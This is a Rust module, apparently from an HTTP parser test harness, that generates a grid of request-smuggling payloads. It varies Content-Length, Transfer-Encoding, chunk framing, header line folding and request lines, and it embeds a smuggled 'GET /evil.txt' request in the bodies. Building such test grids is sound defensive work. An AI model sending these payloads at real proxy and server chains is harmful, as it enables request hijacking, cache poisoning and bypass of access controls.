//! Requests by which a client would make two servers disagree about where a request ends. Generated: what is varied is
//! listed, the grid is its product.
//!
//! Not here: what must come of them (`grid`).

/// One attempt.
pub struct Payload {
    /// What it is, for messages.
    pub name: String,
    /// What the client sends.
    pub bytes: Vec<u8>,
}

/// Half a request: the fields of whoever comes next on the connection would complete it.
const HALF: &str = "GET /evil.txt HTTP/1.1\r\nX: ";
/// A whole one.
const WHOLE: &str = "GET /evil.txt?inner HTTP/1.1\r\nHost: x\r\n\r\n";
/// The end of a chunked body, and half a request behind it.
const ENDED: &str = "0\r\n\r\nGET /evil.txt HTTP/1.1\r\nX: ";

/// The grid: a few hundred of it, or all.
pub fn payloads(short: bool) -> Vec<Payload> {
    let methods: &[&str] = if short {
        &["GET", "POST"]
    } else {
        &["GET", "HEAD", "POST", "PUT", "DELETE", "OPTIONS", "PROPFIND"]
    };
    let contents: &[(&str, &str)] =
        if short { &[("half", HALF)] } else { &[("half", HALF), ("whole", WHOLE), ("ended", ENDED)] };
    // Of the short grid each shape is sent once, with either method by turns.
    let left_out = |shape: usize, method: usize| short && shape % methods.len() != method;
    let mut all = Vec::new();
    for (turn, method) in methods.iter().enumerate() {
        for (kind, content) in contents {
            for (shape, (name, rest)) in framed(content).into_iter().enumerate() {
                if left_out(shape, turn) {
                    continue;
                }
                let number = all.len();
                all.push(Payload {
                    name: format!("{method}, {kind}, {name}"),
                    bytes: format!("{method} /evil.txt?{number} HTTP/1.1\r\nHost: x\r\n{rest}").into_bytes(),
                });
            }
        }
        for (shape, (name, head)) in heads(method).into_iter().enumerate() {
            let with = format!("Content-Length: {}\r\n\r\n{HALF}", HALF.len());
            for (kind, rest) in [("with half a request", with), ("without content", "\r\n".to_owned())] {
                if left_out(shape, turn) || (short && kind == "without content") {
                    continue;
                }
                all.push(Payload {
                    name: format!("{method}, {name}, {kind}"),
                    bytes: format!("{head}{rest}").into_bytes(),
                });
            }
        }
    }
    all
}

/// Fields, the empty line and content, in every framing.
fn framed(content: &str) -> Vec<(String, String)> {
    let n = content.len();
    let chunked = format!("{n:x}\r\n{content}\r\n0\r\n\r\n");
    let mut all: Vec<(String, String)> = Vec::new();
    let mut put = |name: String, rest: String| all.push((name, rest));

    // Content-Length: its value, its name, its line.
    let less = n.saturating_sub(3);
    for value in [
        format!("{n}"),
        format!("+{n}"),
        format!("-{n}"),
        format!("0{n}"),
        format!("{n},{n}"),
        format!("{n}, 0"),
        format!("0, {n}"),
        format!("0x{n:x}"),
        format!("{n} "),
        format!("\t{n}"),
        format!("{n}\u{b}"),
        format!("{n};"),
        format!("{n} {n}"),
        format!("{n}.0"),
        "1e1".into(),
        String::new(),
        "99999999999999999999".into(),
        "0".into(),
        format!("{less}"),
    ] {
        put(format!("Content-Length: {value:?}"), format!("Content-Length: {value}\r\n\r\n{content}"));
    }
    for line in [
        "Content-Length : N",
        "content-length:N",
        " Content-Length: N",
        "Content_Length: N",
        "Content-Length\t: N",
        "Content-Length\0: N",
        "X: 1\r\n Content-Length: N",
        "X: 1\nContent-Length: N",
        "X: 1\rContent-Length: N",
        "Content-Length:\r\n N",
        "Content-Length: N\r\nContent-Length: N",
        "Content-Length: N\r\nContent-Length: 0",
        "Content-Length: 0\r\nContent-Length: N",
        "Connection: content-length\r\nContent-Length: N",
        "Content-Length: N\r\nConnection: close",
        "Content-Length: N\r\nExpect: 100-continue",
        "Content-Length: N\r\nExpect: nonsense",
        "Content-Length: N\r\nConnection: upgrade\r\nUpgrade: websocket",
        "Content-Length: N\r\nConnection: upgrade, http2-settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk",
        "Content-Length: N\r\nX-HTTP-Method-Override: POST",
        "Content-Length: N\r\nHost: y",
        "No-Length: N",
    ] {
        put(format!("{line:?}"), format!("{}\r\n\r\n{content}", line.replace('N', &n.to_string())));
    }

    // Transfer-Encoding: its value, its line, and both.
    for value in [
        "chunked",
        "Chunked",
        " chunked",
        "\tchunked",
        "chunked ",
        "chunked\u{b}",
        "\u{b}chunked",
        "\"chunked\"",
        "chunked, identity",
        "identity, chunked",
        "identity",
        "gzip, chunked",
        "chunked, chunked",
        "xchunked",
        "chunkedx",
        "chunked;q=1",
        "chunked,",
        ",chunked",
        "chunk",
        "",
        "cow",
    ] {
        put(format!("Transfer-Encoding: {value:?}"), format!("Transfer-Encoding: {value}\r\n\r\n{chunked}"));
        let length = chunked.len();
        let both = format!("Content-Length: {length}\r\nTransfer-Encoding: {value}\r\n\r\n{chunked}");
        put(format!("Content-Length and Transfer-Encoding: {value:?}"), both);
    }
    for line in [
        "Transfer-Encoding : chunked",
        "Transfer_Encoding: chunked",
        "Transfer-Encoding:\r\n chunked",
        " Transfer-Encoding: chunked",
        "X: 1\nTransfer-Encoding: chunked",
        "X: 1\rTransfer-Encoding: chunked",
        "Transfer-Encoding\0: chunked",
        "Transfer-Encoding:chunked",
        "Transfer-Encoding: chunked\r\nExpect: 100-continue",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow",
        "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
        "Connection: transfer-encoding\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Transfer-Encoding: chunked\r\nContent-Length: 0",
        "Transfer-Encoding: chunked\r\nTrailer: Content-Length",
        "TE: chunked",
    ] {
        put(format!("{line:?}"), format!("{line}\r\n\r\n{chunked}"));
    }

    // Chunks.
    let te = "Transfer-Encoding: chunked\r\n\r\n";
    for size in [
        format!("{n:X}"),
        format!("0{n:x}"),
        format!("00000000000000000000{n:x}"),
        format!("{n:x};a=b"),
        format!("{n:x};a=\"\r\n\""),
        format!("{n:x};a=\n"),
        format!("{n:x};a\rb"),
        format!("{n:x} "),
        format!("{n:x}\t"),
        format!(" {n:x}"),
        format!("0x{n:x}"),
        format!("+{n:x}"),
        format!("-{n:x}"),
        format!("{n:x}\u{b}"),
        format!("{n:x};"),
        format!("{n:x};;"),
        format!("{n:x},"),
        format!("{n:x}\r"),
        format!("{n:x}h"),
        "ffffffffffffffff".into(),
        format!("1000000000000000{n:x}"),
        String::new(),
    ] {
        put(format!("a chunk of {size:?}"), format!("{te}{size}\r\n{content}\r\n0\r\n\r\n"));
    }
    for (name, body) in [
        ("a size that ends in LF", format!("{n:x}\n{content}\r\n0\r\n\r\n")),
        ("a size that ends in CR", format!("{n:x}\r{content}\r\n0\r\n\r\n")),
        ("no end of a chunk", format!("{n:x}\r\n{content}0\r\n\r\n")),
        ("a chunk that ends in LF", format!("{n:x}\r\n{content}\n0\r\n\r\n")),
        ("a chunk that is longer", format!("{less:x}\r\n{content}\r\n0\r\n\r\n")),
        ("an end in LF", format!("{n:x}\r\n{content}\r\n0\n\n")),
        ("an end of two zeros", format!("{n:x}\r\n{content}\r\n00\r\n\r\n")),
        ("an end with an extension", format!("{n:x}\r\n{content}\r\n0;a=b\r\n\r\n")),
        ("a trailer", format!("{n:x}\r\n{content}\r\n0\r\nX: y\r\n\r\n")),
        ("a trailer with a length", format!("{n:x}\r\n{content}\r\n0\r\nContent-Length: 9\r\n\r\n")),
        ("a trailer in LF", format!("{n:x}\r\n{content}\r\n0\r\nX: y\n\n")),
        ("a folded trailer", format!("{n:x}\r\n{content}\r\n0\r\nX: y\r\n z\r\n\r\n")),
        ("half an end", format!("{n:x}\r\n{content}\r\n0\r\n")),
        ("no chunk but the last", "0\r\n\r\n".to_owned()),
        ("content behind the last chunk", format!("0\r\n\r\n{content}")),
        ("two chunks", format!("1\r\nx\r\n{chunked}")),
    ] {
        put(name.to_owned(), format!("{te}{body}"));
    }
    all
}

/// Request lines and first fields that are nearly right.
fn heads(method: &str) -> Vec<(String, String)> {
    let lower = method.to_ascii_lowercase();
    let lines = [
        format!("{method} http://x/evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} http://other/evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} http://x HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} //evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} * HTTP/1.1\r\nHost: x\r\n"),
        format!("{method}  /evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method}\t/evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt  HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil .txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/1.1 \r\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\n"),
        format!("{method} /evil.txt HTTP/1.10\r\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/2.0\r\nHost: x\r\n"),
        format!("{method} /evil.txt http/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt\r\nHost: x\r\n"),
        format!("{method} /evil.txt\0 HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt#x HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt%0d%0aX:%20y HTTP/1.1\r\nHost: x\r\n"),
        format!(
            "{method} /evil.txt%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0aGET%20/evil.txt HTTP/1.1\r\nHost: x\r\n"
        ),
        format!("{method} /evil.txt HTTP/1.1\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/1.1\rHost: x\r\n"),
        format!("{lower} /evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!(" {method} /evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("\r\n\r\n{method} /evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("\n{method} /evil.txt HTTP/1.1\r\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\n Host: x\r\nHost: x\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nHost: y\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x y\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x, y\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost:\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nX: y\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nNo colon\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\n: no name\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nX: a\rb\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nX y: z\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nX: y\r\n\tz\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nConnection: host, x\r\nX: y\r\n"),
        format!("{method} /evil.txt HTTP/1.1\r\nHost: x\r\nMax-Forwards: 0\r\n"),
    ];
    lines.into_iter().map(|line| (format!("{:?}", line.trim_end()), line)).collect()
}
